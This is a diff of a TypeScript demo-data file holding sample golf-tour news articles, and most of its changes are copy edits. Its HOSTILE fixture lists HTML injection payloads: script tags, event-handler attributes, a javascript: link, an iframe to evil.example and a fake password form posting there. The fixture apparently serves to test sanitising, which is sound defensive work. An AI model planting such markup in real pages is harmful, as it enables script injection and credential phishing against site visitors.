@@ -17,17 +17,17 @@ interface Note {
 
 const HOSTILE = [
   p(
-    'Readers write, and sometimes their mail program writes along. We print the letters as they came.',
+    'Readers write, and sometimes their email programs add something of their own. We print the letters as they arrived.',
   ),
   '<script>window.hacked = "script"</script>',
-  '<p onclick="window.hacked = \'click\'">“I found my ball in the cup and nobody saw it. Does it count?” It does, and we are sorry.</p>',
+  '<p onclick="window.hacked = \'click\'">“I found my ball in the cup, and nobody saw it. Does it count?” It does, and we’re sorry.</p>',
   '<img src="x" onerror="window.hacked = \'onerror\'" alt="A letter, scanned badly">',
   '<a href="javascript:window.hacked=\'link\'">“Is the shotgun start meant for late sleepers?”</a>',
   '<iframe src="https://evil.example/frame"></iframe><style>body { display: none }</style>',
   '<svg><script>window.hacked = "svg"</script><text>svg text</text></svg>',
   '<form action="https://evil.example"><input name="password"><button>Sign in again</button></form>',
-  '<p style="position:fixed;inset:0;background:red" id="cart" class="hero">“Why is your page red?” It is not, any more.</p>',
-  '<a href="https://example.com/rules" target="_blank">The rules, for everybody</a>',
+  '<p style="position:fixed;inset:0;background:red" id="cart" class="hero">“Why is your page red?” It isn’t anymore.</p>',
+  '<a href="https://example.com/rules" target="_blank">The rules, for everyone</a>',
 ].join('\n');
 
 /** Newest first. */
@@ -37,7 +37,7 @@ const NOTES: readonly Note[] = [
     title: 'What to Pack for a Cold Morning',
     html:
       p(
-        'The first tee time is at 7:30, the thermometer says 38, and the fairways are white. Nobody plays well cold, but you can play less badly.',
+        'The first tee time is at 7:30, the thermometer says 38, and the fairways are white. No one plays well cold, but you can play less badly.',
       ) +
       h2('Three layers and a spare') +
       list([
@@ -47,17 +47,17 @@ const NOTES: readonly Note[] = [
         'Dry socks, in a bag, in the trunk',
       ]) +
       p(
-        'Keep two balls in a pocket and change them at every tee. A warm ball flies about two yards farther for each ten degrees, and it feels like a ball and not like a stone.',
+        'Keep two balls in a pocket and change them at every tee. A warm ball flies about two yards farther for every ten degrees, and it feels like a ball, not a stone.',
       ),
   },
   {
     handle: 'hole-in-one-🎉-on-the-short-fifth',
     title: 'Hole in One 🎉 on the Short Fifth',
     html:
-      p('Nobody on the tee saw it drop. The group behind did, and the noise told everybody else.') +
+      p('No one on the tee saw it drop. The group behind did, and everyone else heard them.') +
       quote('I was already looking for my provisional.') +
       p(
-        'It is the ninth ace in the tour’s history, and the first with a club that was borrowed. The club has been given back. The ball has not.',
+        'It’s the ninth ace in the tour’s history, and the first with a borrowed club. The club has been returned. The ball has not.',
       ),
   },
   {
@@ -65,7 +65,7 @@ const NOTES: readonly Note[] = [
     title: 'Café à la Neuvième: Where to Eat at the Turn',
     html:
       p(
-        'A hot dog is a meal, but it is not the only one. Our readers in Nashua and Montréal sent their lists.',
+        'A hot dog is a meal, but it isn’t the only one. Our readers in Nashua and Montréal sent their lists.',
       ) +
       table(
         ['Course', 'Order this', 'Minutes'],
@@ -82,17 +82,17 @@ const NOTES: readonly Note[] = [
     title: 'How Skins Work, in Two Minutes',
     html:
       p(
-        'Part of every entry goes into the skins. A skin is a hole that one player alone plays best, net of half the handicap.',
+        'Part of every entry goes into the skins pool. A skin is a hole that one player wins outright, playing at half handicap.',
       ) +
       h2('The short version') +
       list([
         'Half of your strokes count',
         'The lowest net score on a hole wins it',
         'A tie wins nothing',
-        'What is won is shared equally',
+        'The pool is split equally over 18 holes',
       ]) +
       p(
-        'So a quiet bogey on the hardest hole can be worth more than a birdie that two others made as well.',
+        'So a quiet bogey on the hardest hole can be worth more than a birdie that two other players made, too.',
       ),
   },
   {
@@ -100,7 +100,7 @@ const NOTES: readonly Note[] = [
     title: 'Meet the Starter',
     html:
       p(
-        'He has a clipboard, a folding chair and forty years of names. He will tell you that you are up next, and you will be.',
+        'He has a clipboard, a folding chair, and forty years of names. He’ll tell you that you’re up next, and you will be.',
       ) + quote('I’ve seen every swing there is. Most of them work once.'),
   },
   {
@@ -110,13 +110,13 @@ const NOTES: readonly Note[] = [
   },
   {
     handle: 'reading-a-green-in-shade',
-    title: 'Reading a Green That Lies in Shade',
+    title: 'Reading a Green in the Shade',
     html:
       p(
-        'Shade hides the fall. Walk half way round the hole at a low angle, and look at where the mower turned.',
+        'Shade hides the slope. Walk halfway around the hole, get low, and look for where the mower turned.',
       ) +
       p(
-        'Grain matters less here than in the south, but in August the poa on older greens leans to the sun. If the last foot looks dull, the putt is slower than it seems.',
+        'Grain matters less here than in the South, but in August the poa on older greens leans toward the sun. If the last foot looks dull, the putt is slower than it seems.',
       ),
   },
   {
@@ -124,7 +124,7 @@ const NOTES: readonly Note[] = [
     title: 'The Case for Nine Holes',
     html:
       p(
-        'An evening, a half set, two friends. You know each other’s excuses, so nobody needs to make them.',
+        'An evening, a half set, two friends. You know each other’s excuses, so no one needs to make them.',
       ) + p('Nine holes count for your handicap. They count for more than that.'),
   },
   {
@@ -132,7 +132,7 @@ const NOTES: readonly Note[] = [
     title: 'Naïve Questions, Honest Answers',
     html:
       h2('Do I have to be good?') +
-      p('You have to have a handicap. That is the opposite.') +
+      p('You have to have a handicap. That’s the opposite.') +
       h2('Who picks the groups?') +
       p('The committee, with a spreadsheet and a great deal of tact.') +
       h2('What if it rains?') +
@@ -150,7 +150,7 @@ const NOTES: readonly Note[] = [
   {
     handle: 'rake-the-bunker',
     title: 'Please Rake the Bunker',
-    html: p('That is the whole article.'),
+    html: p('That’s the whole article.'),
     hasPicture: false,
   },
   {
@@ -163,7 +163,7 @@ const NOTES: readonly Note[] = [
         'Any par three over water',
         'The first, because nothing has happened yet',
         'The one with the barn',
-        'The eighteenth at dusk, with nobody waiting',
+        'The eighteenth at dusk, with no one waiting',
       ]),
   },
   {
@@ -171,18 +171,18 @@ const NOTES: readonly Note[] = [
     title: 'What the Handicap Committee Does',
     html:
       p(
-        'It meets on the second Tuesday and looks at the numbers that look back. It is four people and one dog.',
-      ) + p('Post every round, in every weather. That is all it ever asks.'),
+        'It meets on the second Tuesday of the month and stares at numbers until they stare back. It is four people and one dog.',
+      ) + p('Post every round, in any weather. That’s all it ever asks.'),
   },
   {
     handle: 'black-flies-a-field-guide',
     title: 'Black Flies: A Field Guide',
     html:
       p(
-        'They arrive with the fiddleheads and leave with the first dry week of June. They don’t like wind, smoke or the colour white.',
+        'They arrive with the fiddleheads and leave with the first dry week of June. They don’t like wind, smoke, or the color white.',
       ) +
       p(
-        'A light shirt, a breeze and a quick routine will do more for your score in May than a new driver.',
+        'A light shirt, a breeze, and a quick routine will do more for your score in May than a new driver.',
       ),
   },
   {
@@ -190,18 +190,18 @@ const NOTES: readonly Note[] = [
     title: 'Caddies for a Day',
     html:
       p(
-        'Eleven juniors carried bags in the playoffs. They were paid, fed and asked for their opinion, and they gave it.',
-      ) + quote('He asked me the line. I told him. He didn’t listen. I’d tell him again.'),
+        'Eleven juniors carried bags in the playoffs. They were paid, fed, and asked for their opinions, and they gave them.',
+      ) + quote('He asked me for the line. I told him. He didn’t listen. I’d tell him again.'),
   },
   {
     handle: 'walking-the-courses',
     title: 'Walking the Courses',
     html:
       p(
-        'All but two of this season’s courses can be walked. It adds fifteen minutes and takes away the noise.',
+        'You can walk all but two of this season’s courses. It adds fifteen minutes and takes away the noise.',
       ) +
       table(
-        ['Course', 'Miles', 'Climb in feet'],
+        ['Course', 'Miles', 'Climb (feet)'],
         [
           ['The Oaks', '5.1', '210'],
           ['Hooper Golf Course', '4.4', '320'],
@@ -212,7 +212,7 @@ const NOTES: readonly Note[] = [
     handle: 'thank-you-volunteers',
     title: 'Thank You, Volunteers',
     html: p(
-      'Somebody printed the cards, somebody drove the beer, somebody counted the skins by hand when the laptop died. It was always one of the same nine people. Buy them lunch.',
+      'Someone printed the cards, someone drove the beer cart, and someone counted the skins by hand when the laptop died. It was always one of the same nine people. Buy them lunch.',
     ),
   },
   {
@@ -220,9 +220,9 @@ const NOTES: readonly Note[] = [
     title: 'Welcome to the Tour',
     html:
       p('We are amateurs in the old sense: we do it for love, and it shows in the scores.') +
-      h2('How to begin') +
+      h2('How to get started') +
       pWithLink(
-        'Take a membership, enter an event, be there half an hour early. Everything else is on',
+        'Buy a membership, enter an event, and show up half an hour early. Everything else is on',
         'the tour’s pages',
         '/tour-details',
       ),
@@ -236,7 +236,7 @@ const INTERVAL_DAYS = 26;
 export function makeNews(today: CalendarDate, pictures: string): DemoArticle[] {
   return NOTES.map(({ handle, title, html, hasPicture = true }, index) => {
     const seed = `note-${index + 1}`;
-    const picture = hasPicture ? articlePicture(seed, `Drawn for “${title}”`) : null;
+    const picture = hasPicture ? articlePicture(seed, `Illustration for “${title}”`) : null;
     const inText =
       index % 4 === 0 && picture
         ? `<figure><img src="${pictures}/${picture.name}.webp?width=960" alt="A hole in early light" width="960" height="540"><figcaption>Where this was written.</figcaption></figure>`
